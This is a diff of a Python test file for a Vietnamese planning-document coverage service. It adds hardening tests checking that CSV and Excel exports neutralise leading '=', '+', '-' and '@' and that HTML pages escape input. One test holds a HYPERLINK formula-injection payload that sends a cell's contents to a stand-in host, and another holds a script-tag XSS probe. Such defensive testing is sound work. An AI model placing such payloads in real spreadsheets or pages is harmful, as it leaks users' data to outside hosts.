@@ -21,7 +21,7 @@ from service.coverage import (
     reference_requirements,
     year_changes,
 )
-from service.coverage.export import coverage_csv, coverage_xlsx
+from service.coverage.export import coverage_csv, coverage_xlsx, safe_cell
 from service.coverage.requirements import is_aims_heading
 
 Y2025 = "2025-ban-quan-ly-kkt-kcn-khanh-hoa"
@@ -90,12 +90,9 @@ def test_filters_select_the_plans(reader):
     assert [
         p.doc_id for p in coverage_matrix(reader, reference=Y2026, filters={"year": 2025}).plans
     ] == [Y2025]
-    with pytest.raises(InvalidQueryError, match="no plan matches"):
-        coverage_matrix(
-            reader, reference=Y2026, filters={"year": 2026}
-        )  # only the reference itself
-    with pytest.raises(InvalidQueryError, match="no plan matches"):
-        coverage_matrix(reader, reference=Y2026, filters={"province": "Hà Giang"})
+    only_itself = coverage_matrix(reader, reference=Y2026, filters={"year": 2026})
+    assert only_itself.plans == [] and all(row == [] for row in only_itself.cells)
+    assert coverage_matrix(reader, reference=Y2026, filters={"province": "Hà Giang"}).plans == []
     with pytest.raises(DocumentNotFoundError):
         coverage_matrix(reader, reference="no-such-plan")
 
@@ -192,7 +189,7 @@ def test_exports_carry_every_cell(reader):
     sheet = wb["Bao phủ"]
     assert sheet.freeze_panes == "B2"
     body = list(sheet.iter_rows(min_row=2, max_row=1 + len(m.requirements), values_only=True))
-    assert [r[0] for r in body] == [q.text for q in m.requirements]
+    assert [r[0] for r in body] == [safe_cell(q.text) for q in m.requirements]
     assert [r[-1] for r in body] == [m.covering(i) for i in range(len(m.requirements))]
     assert wb["Chi tiết"].max_row == len(rows)
 
@@ -231,7 +228,6 @@ def test_api_coverage_is_answered_from_the_cache_the_second_time(client):
     "params, status, words",
     [
         ({"reference": "nope"}, 404, "valid ids"),
-        ({"reference": Y2026, "year": 1999}, 422, "no plan matches"),
         ({"reference": Y2026, "format": "pdf"}, 422, ""),
         ({}, 422, ""),
     ],
@@ -295,3 +291,79 @@ def test_cli_citations_csv(index_dir, tmp_path):
     rows = list(csv.reader(io.StringIO(out.read_text("utf-8").lstrip("\ufeff"))))
     assert rows[0][:4] == ["Văn bản", "Loại", "Cơ quan ban hành", "Bắt buộc"]
     assert any(row[0] == "09-NQ/TW" and row[3] == "x" for row in rows[1:])
+
+
+# -- hardening (found by a review pass) ----------------------------------------------------------
+def test_exports_never_hold_a_formula(reader, embedder):
+    """A requirement or paragraph beginning "=", "+", "-" or "@" is shown, never run: CSV and
+    XLSX quote it; control characters are dropped before they reach a workbook."""
+    from openpyxl import load_workbook
+
+    m = coverage_matrix(
+        reader, embedder, checklist='=HYPERLINK("http://x.example/?"&A2, "bấm")\n@SUM(1)\x01 a b'
+    )
+    m.requirements[1].text += "\x01"  # as if a document carried one
+    rows = list(csv.reader(io.StringIO(coverage_csv(m).lstrip("\ufeff"))))
+    assert all(not r[1].startswith(("=", "+", "-", "@")) for r in rows[1:])
+    assert rows[1][1].startswith("'=HYPERLINK")
+    wb = load_workbook(io.BytesIO(coverage_xlsx(m)))
+    first = wb["Bao phủ"]["A2"]
+    assert first.data_type == "s" and first.value.startswith("'=HYPERLINK")
+    assert "\x01" not in wb["Bao phủ"]["A3"].value
+
+
+def test_omissions_do_not_depend_on_the_kind_shown(reader):
+    everything = citation_matrix(reader, required=["09-NQ/TW"])
+    laws_only = citation_matrix(reader, required=["09-NQ/TW"], cited_kind="Luật")
+    assert laws_only.omissions == everything.omissions
+    assert all(r.kind == "Luật" or r.required for r in laws_only.rows)
+
+
+def test_too_many_required_documents_is_one_clear_error(reader):
+    with pytest.raises(InvalidQueryError, match="at most 100"):
+        citation_matrix(reader, required=["09-NQ/TW"] * 101)
+
+
+def test_api_changes_filters_units_like_search_and_refuses_one_year(client):
+    r = client.get("/coverage/changes", params={"reference": Y2026, "earlier": 2025, "later": 2025})
+    assert r.status_code == 422 and "two different years" in r.text
+    r = client.get(
+        "/coverage/changes",
+        params={"reference": Y2026, "earlier": 2025, "later": 2026, "unit": "no such unit"},
+    )
+    assert r.status_code == 200 and r.json() == []
+    none = client.get("/coverage", params={"reference": Y2026, "year": 1999})
+    assert none.status_code == 200 and none.json()["plans"] == []
+
+
+def test_answer_cache_is_bounded_in_bytes_and_entries():
+    from service.answers import AnswerCache
+
+    cache = AnswerCache(size=3, max_bytes=100)
+    for k in range(5):
+        cache.get_or_compute(k, lambda k=k: b"x" * 30)
+    assert len(cache) == 3 and cache.nbytes == 90
+    cache.get_or_compute("big", lambda: b"x" * 101)  # answered, not kept
+    assert "big" not in cache._items and cache.nbytes <= 100
+    cache.get_or_compute("half", lambda: b"x" * 60)
+    assert cache.nbytes <= 100 and len(cache) == 2
+
+
+def test_cli_says_when_no_plan_matches(index_dir):
+    r = CliRunner().invoke(cli, ["coverage", Y2026, "--index", str(index_dir), "--year", "1999"])
+    assert r.exit_code == 0 and "no plan matches (year=1999)" in r.stdout
+
+
+@pytest.mark.parametrize(
+    "params, status, words",
+    [
+        ({"reference": Y2026, "year": "1999"}, 200, "Không có kế hoạch nào khớp"),
+        ({"reference": "nope"}, 404, "Không có văn bản «nope»"),
+        ({"reference": Y2026, "year": "abc"}, 422, ""),
+        ({"reference": "<script>x</script>"}, 404, "&lt;script&gt;"),
+    ],
+)
+def test_coverage_page_answers_in_a_sentence(client, params, status, words):
+    r = client.get("/bao-phu", params=params)
+    assert r.status_code == status and r.headers["content-type"].startswith("text/html")
+    assert words in r.text and "<script>x" not in r.text and "Traceback" not in r.text
